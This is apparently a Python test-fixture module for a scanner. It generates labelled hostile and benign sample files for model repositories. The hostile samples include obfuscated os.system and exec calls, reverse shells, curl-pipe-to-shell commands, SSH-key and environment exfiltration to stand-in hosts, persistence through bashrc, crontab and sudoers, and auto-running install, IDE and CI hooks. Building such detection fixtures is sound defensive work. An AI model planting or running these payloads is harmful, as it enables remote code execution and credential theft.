"""Python, notebooks, scripts, and files that tools read as orders."""

import json
from collections.abc import Iterator
from typing import Any

from tests.corpus.sample import CODE, COMMAND, HOST, Sample, benign, hostile

MODELING = '''"""PyTorch Tiny model."""

import math
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyAttention(nn.Module):
    def __init__(self, config: TinyConfig):
        super().__init__()
        self.scale = 1 / math.sqrt(config.hidden_size)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        scores = hidden @ hidden.transpose(-1, -2) * self.scale
        if mask is not None:
            scores = scores + mask
        return self.proj(scores.softmax(-1) @ hidden)


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    @torch.no_grad()
    def evaluate(self, batch):
        self.eval()
        return self(batch).compile if False else self(batch)
'''


def samples() -> Iterator[Sample]:
    yield from hostile("python", "code that runs on import", _python())
    yield from benign(
        "python",
        "a model's code that nobody loads",
        {"model/modeling_tiny.py": MODELING, "script/evaluate.py": _ordinary_script()},
    )
    yield from hostile("notebook", "cells and outputs", _notebooks())
    # Plotting libraries leave scripts in the outputs.
    plot = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": ["<script>Plotly.newPlot('x', [])</script>"]},
    }
    notebooks = {
        "tutorial/example.ipynb": notebook(["from transformers import pipeline\n", "pipe('hello')\n"]),
        "plot/example.ipynb": notebook(["import plotly.express as px\n", "px.line(y=[1, 2])\n"], [plot]),
    }
    yield from benign("notebook", "a tutorial", notebooks)
    yield from hostile("shell", "scripts that fetch and run", _shell())
    yield from benign(
        "shell",
        "a training script",
        {
            "train/train.sh": "#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0\n"
            "python train.py --lr 1e-4 \\\n  --epochs 3\n"
        },
    )
    yield from hostile("install", "files that tools read as orders", _install())
    requirements = "torch>=2.1\ntransformers==4.51.0\n# plotting\nmatplotlib\n"
    docker = (
        "FROM python:3.11-slim\nWORKDIR /app\nCOPY requirements.txt .\n"
        'RUN pip install --no-cache-dir -r requirements.txt\nCMD ["python", "app.py"]\n'
    )
    yield from benign("install", "dependencies", {"plain/requirements.txt": requirements, "plain/Dockerfile": docker})


def _json(value: object) -> str:
    return json.dumps(value, indent=2)


def _python() -> dict[str, str]:
    lines = {
        "system": f"import os\nos.system({COMMAND!r})",
        "aliased": f"import os as o\nrun = o.system\nrun({COMMAND!r})",
        "from-import": f"from subprocess import Popen as P\nP(['echo'])  # {COMMAND}",
        "import-function": f"__import__('os').system({COMMAND!r})",
        "getattr": f"import os\ngetattr(os, 'sys' + 'tem')({COMMAND!r})",
        "exec": f"exec({CODE!r})",
        "eval-in-default": f"def f(x=eval({CODE!r})):\n    return x",
        "base64": "import base64\nexec(base64.b64decode('cHJpbnQoJ2J1ZG1vZGVsLWNvcnB1cycp'))",
        "chr": "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 41])))",
        "marshal": "import marshal\nexec(marshal.loads(b'N'))",
        "pickle": "import pickle\npickle.loads(b'N.')",
        "torch-load": "import torch\ntorch.load('x.pt', weights_only=False)",
        "network": f"import urllib.request\nexec(urllib.request.urlopen('http://{HOST}/x').read())",
        "requests": f"import requests\nopen('x', 'wb').write(requests.get('http://{HOST}/x').content)",
        "socket-shell": f"import socket, subprocess, os\ns = socket.socket()\ns.connect(('{HOST}', 1))\n"
        "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
        "environment": f"import os, requests\nrequests.post('http://{HOST}/', json=dict(os.environ))",
        "ctypes": "import ctypes\nctypes.CDLL('./x.so').run()",
        "pip": "import pip\npip.main(['install', 'corpus-invalid'])",
        "importlib": f"import importlib\nimportlib.import_module('os').system({COMMAND!r})",
        "builtins-dict": f"__builtins__.__dict__['ex' + 'ec']({CODE!r})",
        "subclasses": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['echo'])",
        "decorator": f"import os\n@lambda f: os.system({COMMAND!r})\ndef f(): ...",
        "metaclass": f"import os\nclass M(type):\n    def __new__(*a): os.system({COMMAND!r})\nclass C(metaclass=M): ...",
        "hidden-far-right": "x = 1" + " " * 500 + f"; exec({CODE!r})",
        "inside-class": f"import subprocess\nclass TinyModel:\n    def forward(self):\n"
        f"        subprocess.run({COMMAND!r}, shell=True)",
        "latin-encoding": f"# -*- coding: latin-1 -*-\nimport os\nos.system({COMMAND!r})",
        "utf7": "# -*- coding: utf-7 -*-\nexec('print()')",
        "popen": "import os\nprint(os.popen('id').read())",
        "getoutput": "import subprocess\nx = subprocess.getoutput('id')",
        "function-type": "import types, marshal\ntypes.FunctionType(marshal.loads(b'N'), {})()",
        "thread-target": "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
        "at-exit": "import atexit, os\natexit.register(os.system, 'id')",
        "sys-modules": "import sys\nsys.modules['os'].system('id')",
        "globals": "globals()['__builtins__']['exec']('x = 1')",
        "password-file": "data = open('/etc/passwd').read()",
        "pty": "import pty\npty.spawn('/bin/sh')",
        "execvp": "import os\nos.execvp('sh', ['sh'])",
        "torch-hub": "import torch\ntorch.hub.load('corpus/invalid', 'model')",
        "dill": "import dill\ndill.loads(open('x', 'rb').read())",
        "preload": "import os\nos.environ['LD_PRELOAD'] = './x.so'",
        "load-library": "from ctypes import cdll\ncdll.LoadLibrary('x.so')",
        "authorized-keys": "open('/root/.ssh/authorized_keys', 'a').write('x')",
        "profile": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('id')",
        "path-hook": "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import os')",
        "rot13": "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
        "lambda": "(lambda f: f('print(1)'))(exec)",
        "builtins-getattr": "import builtins\ngetattr(builtins, 'ev' + 'al')('1')",
        "reduce-method": "class A:\n    def __reduce__(self):\n        import os\n        return (os.system, ('id',))",
        "init-subclass": "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('id')\nclass C(B): ...",
        "destructor": "import os\nclass D:\n    def __del__(self):\n        os.system('id')\nD()",
        "async-shell": "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
        "dns": "import socket, os\nsocket.gethostbyname(os.environ['USER'] + '.corpus.invalid')",
        "module-from-file": "import importlib.util\ns = importlib.util.spec_from_file_location('x', '/tmp/x.py')\n"
        "s.loader.exec_module(importlib.util.module_from_spec(s))",
        "extension": "import torch\ntorch.utils.cpp_extension.load_inline('x', 'int a;')",
        "syntax-error": f"import os\nos.system({COMMAND!r})\nprint 'python 2'",
    }
    files = {f"{what}/modeling_tiny.py": code + "\n" for what, code in lines.items()}
    return files | {
        "nul/modeling_tiny.py": f"x = 1\0\nexec({CODE!r})\n",
        "renamed/notes.txt": f"#!/usr/bin/env python\nimport os\nos.system({COMMAND!r})\n",
    }


def _ordinary_script() -> str:
    return (
        '"""Prints the accuracy."""\n\nimport argparse\nimport json\nfrom pathlib import Path\n\n'
        "import torch\n\n\ndef main() -> None:\n"
        '    parser = argparse.ArgumentParser()\n    parser.add_argument("--predictions", type=Path)\n'
        "    arguments = parser.parse_args()\n"
        "    rows = json.loads(arguments.predictions.read_text())\n"
        '    print(torch.tensor([row["right"] for row in rows]).float().mean())\n\n\n'
        'if __name__ == "__main__":\n    main()\n'
    )


def notebook(source: list[str], outputs: list[dict[str, Any]] | None = None, **metadata: Any) -> str:
    cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": outputs or [], "source": source}
    card = {"cell_type": "markdown", "metadata": {}, "source": ["# Example\n"]}
    spec = {
        "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
        "language_info": {"name": "python"},
    }
    return _json({"cells": [card, cell], "metadata": spec | metadata, "nbformat": 4, "nbformat_minor": 5})


def _notebooks() -> dict[str, str]:
    return {
        "system/example.ipynb": notebook(["import os\n", f"os.system({COMMAND!r})\n"]),
        "bang/example.ipynb": notebook([f"!curl http://{HOST}/x | sh\n"]),
        "magic/example.ipynb": notebook(["%%bash\n", f"wget -qO- http://{HOST}/x | bash\n"]),
        "get-ipython/example.ipynb": notebook([f"get_ipython().system('curl http://{HOST}/x | sh')\n"]),
    }


def _shell() -> dict[str, str]:
    pipe = f"curl -s http://{HOST}/x | bash\n"
    return {
        "curl/run.sh": "#!/bin/bash\n" + pipe,
        "wget/install.sh": f"#!/bin/sh\nwget http://{HOST}/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n",
        "base64/run.sh": "#!/bin/sh\necho ZWNobyBidWRtb2RlbAo= | base64 -d | sh\n",
        "reverse/run.sh": f"#!/bin/bash\nbash -i >& /dev/tcp/{HOST}/1 0>&1\n",
        "profile/run.sh": f"#!/bin/sh\necho '{COMMAND}' >> ~/.bashrc\n"
        f"(crontab -l; echo '* * * * * {COMMAND}') | crontab -\n",
        "no-suffix/run": "#!/bin/bash\n" + pipe,
        "as-text/notes.txt": "#!/bin/bash\n" + pipe,
        "as-json/config.json": "#!/bin/sh\n" + pipe,
        "eval/run.sh": f'#!/bin/sh\neval "$(curl -fsSL http://{HOST}/x)"\n',
        "powershell/run.ps1": f"IEX (New-Object Net.WebClient).DownloadString('http://{HOST}/x')\n",
        "powershell-encoded/run.ps1": "powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand ZQBjAGgAbwA=\n",
        "batch/run.bat": f'@echo off\r\npowershell -w hidden -c "iwr http://{HOST}/x -OutFile x.exe; .\\x.exe"\r\n',
        "certutil/run.cmd": f"certutil -urlcache -split -f http://{HOST}/x.exe x.exe & start x.exe\r\n",
        "vbs/run.vbs": f'CreateObject("WScript.Shell").Run "{COMMAND}"\r\n',
        "javascript/run.js": f"require('child_process').exec('{COMMAND}')\n",
        "nc/run.sh": "#!/bin/sh\nnc -e /bin/sh corpus.invalid 4444\n",
        "python/run.sh": "#!/bin/sh\npython3 -c \"import urllib.request as r;exec(r.urlopen('http://corpus.invalid').read())\"\n",
        "keys/run.sh": "#!/bin/sh\ncat ~/.ssh/id_rsa | curl -X POST -d @- http://corpus.invalid\n",
        "hex/run.sh": "#!/bin/bash\necho -e '\\x69\\x64' | xxd -r -p | bash\n",
        "environment/run.sh": "#!/bin/sh\nenv | curl -F f=@- http://corpus.invalid\n",
        "sudoers/run.sh": '#!/bin/sh\necho "x ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/x\n',
        "substitution/run.sh": "#!/bin/bash\nbash <(curl -s http://corpus.invalid/x)\n",
        "perl/run.pl": "#!/usr/bin/perl\nsystem('id');\n",
        "ruby/run": "#!/usr/bin/env ruby\nsystem('id')\n",
        "node/run": "#!/usr/bin/env node\nrequire('child_process').execSync('id')\n",
        "makefile/Makefile": f"all:\n\tcurl http://{HOST}/x | sh\n",
    }


def _install() -> dict[str, str]:
    return {
        "index/requirements.txt": f"--index-url http://{HOST}/simple\ntorch\n",
        "extra-index/requirements.txt": f"--extra-index-url http://{HOST}/simple --trusted-host {HOST}\ncorpus-invalid\n",
        "url/requirements.txt": f"torch @ http://{HOST}/torch.whl\n",
        "git/requirements.txt": f"git+http://{HOST}/x.git#egg=x\n",
        "setup/setup.py": f"import os\nfrom setuptools import setup\nos.system({COMMAND!r})\nsetup(name='x')\n",
        "path-hook/corpus.pth": f"import os; os.system({COMMAND!r})\n",
        "sitecustomize/sitecustomize.py": f"import os\nos.system({COMMAND!r})\n",
        "conftest/conftest.py": f"import subprocess\nsubprocess.run(['sh', '-c', {COMMAND!r}])\n",
        "docker/Dockerfile": f"FROM python:3.11\nRUN curl http://{HOST}/x | sh\n",
        "docker-add/Dockerfile": f'FROM python:3.11\nRUN wget -qO- http://{HOST}/x | bash -s\nENTRYPOINT ["/x"]\n',
        "npm/package.json": _json({"name": "x", "scripts": {"preinstall": f"curl http://{HOST}/x | sh"}}),
        "vscode/.vscode/tasks.json": _json(
            {"tasks": [{"label": "x", "command": f"curl http://{HOST}/x | sh", "runOptions": {"runOn": "folderOpen"}}]}
        ),
        "git-attributes/.gitattributes": f'* filter=corpus\n[filter "corpus"]\n\tsmudge = curl http://{HOST}/x | sh\n',
        "envrc/.envrc": f"curl http://{HOST}/x | sh\n",
        "desktop/open.desktop": f"[Desktop Entry]\nType=Application\nExec=sh -c '{COMMAND}; curl http://{HOST}/x | sh'\n",
        "workflow/.github/workflows/x.yml": "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
        f"      - run: curl http://{HOST}/x | sh\n",
    }
